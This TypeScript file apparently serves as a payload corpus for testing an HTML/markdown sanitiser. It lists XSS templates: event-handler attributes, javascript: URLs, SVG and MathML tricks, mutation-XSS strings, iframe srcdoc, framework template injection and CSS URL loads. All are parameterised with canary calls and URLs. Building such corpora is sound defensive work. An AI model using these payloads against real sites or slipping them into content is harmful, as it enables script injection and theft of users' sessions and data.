import { type AttackTemplate, SHOP, templatesFor } from './canary.ts';

/** HTML attacks: elements, handlers, attributes, foreign content, and mutations when the text is parsed twice. */

const SUBSET = ['a', 'br', 'b', 'i', 'em', 'strong', 'p', 'ul', 'ol', 'li', 'code'];
const HANDLERS =
  'abort animationend auxclick beforeinput beforetoggle blur canplay change click contextmenu copy cut dblclick drag drop error focus focusin hashchange input keydown load message mousemove mouseover paste play pointerenter pointerrawupdate scroll scrollend securitypolicyviolation submit toggle touchstart transitionend wheel'.split(
    ' ',
  );

/** Allowed elements with harmful attributes: handlers, styles, names and URLs. */
const subset = [
  ...templatesFor(SUBSET, (tag) => [
    ({ call }) => `<${tag} onclick=${call} onmouseover='${call}'>x</${tag}>`,
    ({ call }) => `<${tag}/onpointerenter="${call}"/style="position:fixed;inset:0"/>x`,
    ({ url }) =>
      `<${tag} style="background:url(${url})" background=${url} src=${url} poster=${url}>x</${tag}>`,
    ({ call }) =>
      `<${tag} id=__proto__ name=Foyer class=launcher part=panel slot=x data-x=${call}>x</${tag}>`,
    ({ call }) =>
      `<${tag} href="javascript:${call}" action="javascript:${call}" formaction=javascript:${call}>x`,
    ({ url }) => `<${tag} ping=${url} srcset="${url} 2x" xlink:href="${url}" manifest=${url}>x</${tag}>`,
  ]),
  ...templatesFor(HANDLERS, (name) => [
    ({ call }) => `<p on${name}="${call}" tabindex=0 autofocus contenteditable>x</p>`,
    ({ call }) => `[x](${SHOP}"on${name}="${call}")`,
  ]),
];

const ELEMENTS =
  'applet area audio base bgsound body button canvas command datalist details dialog embed fencedframe form frame frameset head html iframe image img input isindex keygen link map marquee math menuitem meta noembed noscript object option picture plaintext portal select slot source style svg template textarea title track video xmp foyer-chat'.split(
    ' ',
  );

const elements = templatesFor(ELEMENTS, (tag) => [
  ({ call, url }) =>
    `<${tag} src="${url}" href="${url}" data="${url}" code="${url}" content="0;url=${url}" http-equiv=refresh rel=stylesheet onload="${call}" onerror="${call}" ontoggle="${call}" open autofocus>x</${tag}>`,
  ({ call }) => `<${tag} src=javascript:${call} href=javascript:${call} data=javascript:${call}>`,
]);

const foreign: readonly AttackTemplate[] = [
  ({ call }) => `<svg onload=${call}>`,
  ({ call }) => `<svg/onload=${call}><svg/onload=${call}>`,
  ({ call }) => `<svg><script>${call}</script></svg>`,
  ({ call }) => `<svg><script href="data:,${call}"/></svg>`,
  ({ call }) => `<svg><set attributeName=onmouseover to=${call}></svg>`,
  ({ call }) => `<svg><a xlink:href="javascript:${call}"><text y=9>go</text></a></svg>`,
  ({ call }) => `<svg><animate attributeName=href values=javascript:${call} /><a><text>go</text></a>`,
  ({ url }) => `<svg><image href="${url}"/><use href="${url}#x"/><feImage href="${url}"/></svg>`,
  ({ call }) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  ({ call }) => `<svg><style>*{}</style><img src=x onerror=${call}></svg>`,
  ({ call }) => `<math><a xlink:href="javascript:${call}">go</a></math>`,
  ({ call }) => `<math href="javascript:${call}">go</math>`,
  ({ call }) => `<math><mi><img src=x onerror=${call}></mi></math>`,
  ({ call }) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
  ({ call }) =>
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${call}">go</maction></math>`,
  ({ call }) => `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>)`,
  ({ call }) =>
    `<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">${call}</html:script>`,
  ({ call }) => `<!DOCTYPE x [<!ENTITY e "<script>${call}</script>">]>&e;`,
];

/** Mutation XSS: texts that two parsers read differently. */
const mutations: readonly AttackTemplate[] = [
  ({ call }) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  ({ call }) => `<style><p title="</style><img src=x onerror=${call}>">`,
  ({ call }) => `<p title="--><img src=x onerror=${call}>"><!--</p>`,
  ({ call }) => `<math><mtext><table><mglyph><style><math href=x><img src=x onerror=${call}>`,
  ({ call }) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${call} src>">`,
  ({ call }) => `<svg></p><style><b title="</style><img src=x onerror=${call}>">`,
  ({ call }) => `<table><caption><b title="</table><img src=x onerror=${call}>">x`,
  ({ call }) => `<select><b><option><style></select><img src=x onerror=${call}></style>`,
  ({ call }) => `<textarea><b title="</textarea><img src=x onerror=${call}>">`,
  ({ call }) => `<xmp><p title="</xmp><script>${call}</script>">`,
  ({ call }) => `<b <script>${call}</script>`,
  ({ call }) => `<b/<script>${call}</script>>x</b>`,
  ({ call }) => `<<script>${call}//<</script>`,
  ({ call }) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  ({ call }) => `</p/><img/src=x/onerror=${call}>`,
  ({ call }) => `<a href=\`javascript:${call}\`>x</a>`,
  ({ call }) => `<a href="https://shop.example/&quot; onclick=${call} x=&quot;">x</a>`,
  ({ call }) => `<a href='x' href="javascript:${call}">x</a>`,
  ({ call }) => `<a title=">" href=javascript:${call}>x</a>`,
  ({ call }) => `<![CDATA[<img src=x onerror=${call}>]]>`,
  ({ call }) => `<!--><img src=x onerror=${call}>-->`,
  ({ call }) => `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
  ({ call }) => `<p>${'<b>'.repeat(30)}<img src=x onerror=${call}>${'</b>'.repeat(30)}</p>`,
  ({ call }) => `<pre>\n\n<img src=x onerror=${call}></pre>`,
  ({ call }) =>
    `<p><ul><li><p><ol><a href=${SHOP}><a href="javascript:${call}">x</a></a></ol></p></li></ul></p>`,
  ({ call }) => `<li>x<br><p></li><code><p></code><img src=x onerror=${call}>`,
];

/** Nested documents, and template syntax of servers and frameworks. */
const documents: readonly AttackTemplate[] = [
  ({ call }) => `<iframe srcdoc="&lt;img src=x onerror=top.${call}&gt;">`,
  ({ call }) => `<iframe srcdoc=<script>top.${call}</script>>`,
  ({ call }) =>
    `<iframe srcdoc="&#60;svg onload=top.${call}&#62;" sandbox="allow-scripts allow-same-origin">`,
  ({ call }) => `<iframe src="data:text/html;base64,${btoa(`<script>top.${call}</script>`)}">`,
  ({ call }) => `<object data="data:text/html,<script>top.${call}</script>" type=text/html></object>`,
  ({ url }) => `<portal src=${url}></portal><fencedframe src=${url}></fencedframe>`,
  ({ call }) => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  ({ call }) => `{{constructor.constructor('${call}')()}}`,
  ({ call }) => `{{$on.constructor('${call}')()}}`,
  ({ call }) => `\${${call}} #{${call}} *{${call}} @{${call}} ~{${call}}`,
  ({ call }) => `<%= ${call} %><?php ${call} ?><#assign x=${call}>`,
  ({ call }) => `{% if ${call} %}{{{ ${call} }}}{% endif %}`,
  ({ call }) => `<p ng-app ng-init="${call}" v-html="${call}" x-data x-init="${call}" hx-on:load="${call}">`,
  ({ call }) => `<p dangerouslySetInnerHTML='{"__html":"<img src=x onerror=${call}>"}'>`,
  ({ call }) => `{name} {name.constructor.constructor('${call}')()} {__proto__}`,
  ({ call }) => `[[${call}]] ((${call})) {${call}} @Html.Raw(${call})`,
  ({ url }) => `<style>@import "${url}";*{background:url(${url})}</style>`,
  ({ url }) =>
    `<b style="background-image:url('${url}');behavior:url(${url});-moz-binding:url(${url})">x</b>`,
  ({ call }) => `<b style="width:expression(${call});x:\\65xpression(${call})">x</b>`,
  ({ url }) => `</style><link rel=prefetch href=${url}><link rel=preconnect href=${url}>`,
];

export const HTML: readonly AttackTemplate[] = [
  ...subset,
  ...elements,
  ...foreign,
  ...mutations,
  ...documents,
];
